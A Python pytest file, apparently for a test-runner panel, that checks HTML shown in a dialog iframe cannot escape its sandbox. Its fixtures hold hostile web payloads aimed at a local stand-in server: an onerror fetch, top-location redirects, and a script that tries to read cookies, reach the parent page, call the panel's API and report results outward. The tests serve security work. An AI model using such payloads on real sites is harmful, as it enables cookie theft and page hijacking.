"""HTML of a sequence and pages of others lie in frames: they reach neither the panel nor, unasked, anything else."""

from __future__ import annotations

import json
import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any

import pytest

from tests.panel.live_page import started

pytestmark = pytest.mark.slow

expect = pytest.importorskip("playwright.sync_api").expect

HTML = """
<meta http-equiv=refresh content="0;url={there}/refresh">
<link rel=stylesheet href={there}/sheet><link rel=prefetch href={there}/prefetch>
<style>@import url({there}/import); body {{ background: url({there}/background) }}</style>
<h1>Pinout</h1><img src={there}/image><video src={there}/video></video><object data={there}/object></object>
<img src=x onerror="fetch('{there}/error')"><script>top.location = '{there}/script'</script>
<iframe src=/></iframe><iframe src={there}/frame></iframe>
<a id=top target=_top href={there}/top>top</a> <a id=blank target=_blank href={there}/blank>new</a>
<a id=ping href=# ping={there}/ping>ping</a> <a id=self href={there}/self>here</a>
"""
PAGE = """<!doctype html><h1>Another's page</h1><script>
const told = [];
const tell = (name, value) => {
  told.push(fetch("/told?" + name + "=" + value, {mode: "no-cors"}));
  return told.at(-1);
};
const attempt = (name, act) => { try { tell(name, act()); } catch { tell(name, "refused"); } };
attempt("cookie", () => document.cookie);
attempt("parent", () => parent.document.title);
attempt("top", () => { top.location = "/taken"; return "moved"; });
attempt("window", () => window.open("/window") ? "opened" : "refused");
const ask = (name, method) => fetch("PANEL/api/" + name, {method, mode: method === "POST" ? "no-cors" : "cors"})
  .then(() => tell(name, "answered"), () => tell(name, "refused"));
parent.postMessage({stop: true}, "*");
Promise.all([ask("state", "GET"), ask("stop", "POST")]).then(() => Promise.all(told)).then(() => tell("end", ""));
</script>"""


class Elsewhere:
    """Another web site, and what was asked of it."""

    def __init__(self) -> None:
        self.asked: list[str] = []
        self.page = ""
        self.ended = threading.Event()
        asked, ended, elsewhere = self.asked, self.ended, self

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                asked.append(self.path)
                self.send_response(200)
                self.send_header("Content-Type", "text/html")
                self.end_headers()
                self.wfile.write(elsewhere.page.encode())
                if "end=" in self.path:
                    ended.set()

            def log_message(self, *_: Any) -> None:
                """Nothing."""

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.address = f"http://127.0.0.1:{self.server.server_address[1]}"
        threading.Thread(target=self.server.serve_forever, daemon=True).start()


@pytest.fixture
def elsewhere() -> Iterator[Elsewhere]:
    """Another web site on this machine."""
    site = Elsewhere()
    yield site
    site.server.shutdown()
    site.server.server_close()


def shown(stand: Any, browse: Any, html: Any, elsewhere: Elsewhere) -> tuple[Any, Any, Any]:
    """A panel, a page of it, and the frame in its dialog."""
    stand.steps(f"- dialog: {{title: Look, html: {json.dumps(html)}}}")
    panel = stand.open()
    elsewhere.page = PAGE.replace("PANEL", panel.url)
    page = started(browse(panel, strict=False))
    page.keyboard.press("Space")
    return panel, page, page.get_by_role("dialog").frame_locator("iframe")


def test_html_of_a_sequence_loads_and_leads_nowhere(stand: Any, browse: Any, elsewhere: Elsewhere) -> None:
    """It is shown, but scripts do not run, nothing is loaded, and no link, form or redirect leaves the frame."""
    panel, page, frame = shown(stand, browse, HTML.format(there=elsewhere.address), elsewhere)
    expect(frame.locator("h1")).to_have_text("Pinout")
    for link in ("ping", "top", "blank", "self"):
        frame.locator(f"#{link}").click()
    page.get_by_role("dialog").get_by_role("button", name="Confirm").click()
    expect(page.locator(".hero .verdict-word")).to_have_text("Pass")
    assert panel.last()["status"] == "passed"
    assert (elsewhere.asked, len(page.context.pages)) == ([], 1)


def test_a_page_of_others_cannot_reach_the_panel(stand: Any, browse: Any, elsewhere: Elsewhere) -> None:
    """Its scripts run, but it has no way to the panel's page, cookies and calls, and opens no window."""
    panel, page, frame = shown(stand, browse, {"url": f"{elsewhere.address}/page"}, elsewhere)
    expect(frame.frame_locator("iframe").locator("h1")).to_have_text("Another's page")
    assert elsewhere.ended.wait(30)
    told = {path for path in elsewhere.asked if path.startswith("/told?")}
    assert told == {
        "/told?cookie=refused",
        "/told?parent=refused",
        "/told?top=refused",
        "/told?window=refused",
        "/told?state=refused",
        "/told?stop=refused",
        "/told?end=",
    }
    assert {path for path in elsewhere.asked if "told" not in path} == {"/page"}
    assert panel.session.state == "running"
    assert page.url == f"{panel.url}/"
    page.get_by_role("dialog").get_by_role("button", name="Confirm").click()
    expect(page.locator(".hero .verdict-word")).to_have_text("Pass")


def test_html_has_the_colours_of_the_page_and_its_own_height(stand: Any, browse: Any, elsewhere: Elsewhere) -> None:
    """In the dark it is light on dark, and changes with the theme; all of it is seen without a second scroll bar."""
    rows = "".join(f"<p>Pin {number}" for number in range(30))
    style = "<style>h2 { color: light-dark(navy, skyblue) }</style>"
    html = f"{style}<h2>Pinout</h2>{rows}<details><summary>More</summary>{rows}</details>"
    panel, page, frame = shown(stand, browse, html, elsewhere)
    inside, heading = frame.locator("html"), frame.locator("h2")
    page.evaluate("dispatchEvent(new CustomEvent('hardseq-theme', {detail: 'dark'}))")
    ink = page.locator("dialog").evaluate("(one) => getComputedStyle(one).color")
    expect(inside).to_have_css("color", ink)
    expect(inside).to_have_css("color-scheme", "dark")
    expect(heading).to_have_css("color", "rgb(135, 206, 235)")
    page.evaluate("dispatchEvent(new CustomEvent('hardseq-theme', {detail: 'light'}))")
    expect(inside).not_to_have_css("color", ink)
    expect(heading).to_have_css("color", "rgb(0, 0, 128)")

    def height() -> int:
        """That of the frame where it shows all that it has, else 0."""
        found: int = inside.evaluate("(root) => root.scrollHeight === root.clientHeight ? root.clientHeight : 0")
        return found

    panel.wait_until(lambda: height() > 900)
    folded = height()
    frame.locator("summary").click()
    panel.wait_until(lambda: height() > folded + 500)
    frame.locator("summary").click()
    panel.wait_until(lambda: height() == folded)
